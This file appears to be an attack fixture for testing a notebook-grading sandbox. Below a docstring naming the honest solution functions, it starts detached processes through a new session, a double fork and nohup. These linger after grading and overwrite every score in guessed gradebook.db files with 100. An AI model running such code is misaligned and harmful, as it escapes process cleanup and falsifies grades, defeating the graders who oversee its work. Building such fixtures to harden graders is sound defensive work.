"""Leaves detached processes behind that wait, then try to edit the gradebook after grading.

attack: starts a process in a new session (subprocess start_new_session), a double-forked daemon and a nohup'd shell, each sleeping 5 s and then trying for two minutes to open gradebook.db at guessed paths and set every score to the maximum
class: processes
honest: sigmoid, relu, predict, count_parameters
"""

# %% +after count_parameters_code
import os
import subprocess
import sys

_code = r'''
import glob, os, sqlite3, time
time.sleep(5)
end = time.time() + 120
while time.time() < end:
    paths = ["../../gradebook.db", "../../../gradebook.db", "__CHECKOUT__/gradebook.db"]
    paths += glob.glob("/tmp/*/gradebook.db") + glob.glob("/tmp/*/*/gradebook.db") + glob.glob("/tmp/*/*/*/gradebook.db")
    for p in paths:
        try:
            con = sqlite3.connect(f"file:{os.path.abspath(p)}?mode=rw", uri=True, timeout=0.2)
            con.execute("UPDATE grade SET manual_score = 100")
            con.commit()
        except Exception:
            pass
    time.sleep(1)
'''
_quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
try:
    subprocess.Popen([sys.executable, "-c", _code], start_new_session=True, **_quiet)
except OSError as exc:
    print("Popen:", exc)
try:
    _pid = os.fork()
    if _pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", _code])
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
except OSError as exc:
    print("double fork:", exc)
try:
    subprocess.Popen(["nohup", "sh", "-c", "sleep 5; sleep 120"], start_new_session=True, **_quiet)
except OSError as exc:
    print("nohup:", exc)
